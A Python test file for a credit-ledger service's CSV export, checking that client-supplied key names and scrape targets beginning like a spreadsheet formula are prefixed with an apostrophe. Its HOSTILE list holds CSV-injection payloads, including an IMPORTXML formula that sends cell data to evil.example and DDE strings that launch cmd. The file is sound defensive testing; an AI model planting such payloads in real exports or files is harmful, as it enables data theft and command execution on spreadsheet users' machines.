"""Found by an outside tester (issue 19): the CSV export wrote client-controlled text raw, so a
key named `=IMPORTXML(...)` or a scrape target `=HYPERLINK(...)` reached a spreadsheet as a
formula. Text cells that start like a formula now start with `'` (OWASP's rule); NDJSON, which
no spreadsheet runs, keeps them as they are."""

from __future__ import annotations

import csv
import io

import orjson
import pytest

from creditgate.domain.instants import now
from creditgate.services import export, ledger
from creditgate.storage.database import Database
from tests.helpers import team_with_key

HOSTILE = [
    '=IMPORTXML("https://evil.example/?"&A1,"//a")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("hostile", HOSTILE)
def test_a_formula_in_a_key_name_or_target_is_text_in_the_csv(db: Database, hostile: str) -> None:
    team, _, key_id = team_with_key(db, now(), key_name=hostile[:60])
    ledger.charge(
        db, ledger.ChargeRequest(key=key_id, credits=3, endpoint="scrape", target=hostile), now()
    )
    entries = export.prepare(db, team.id, "entries")
    by_key = export.prepare(db, team.id, "usage", by="key")
    cells = [
        cell
        for chosen in (entries, by_key)
        for row in csv.reader(io.StringIO(b"".join(export.stream(db, chosen)).decode()))
        for cell in row
    ]
    assert "'" + hostile in cells and "'" + hostile[:60] in cells
    assert [c for c in cells if c.startswith(export.FORMULA_STARTS)] == ["-3"]  # a number stays
    raw = export.prepare(db, team.id, "entries", fmt="ndjson")
    lines = [orjson.loads(line) for line in b"".join(export.stream(db, raw)).splitlines()]
    assert hostile in [line.get("target") for line in lines]


def test_plain_text_and_numbers_are_unchanged() -> None:
    assert [export.defused(c) for c in ("acme", "a=b", 5, -5, None, "")] == [
        "acme",
        "a=b",
        5,
        -5,
        None,
        "",
    ]
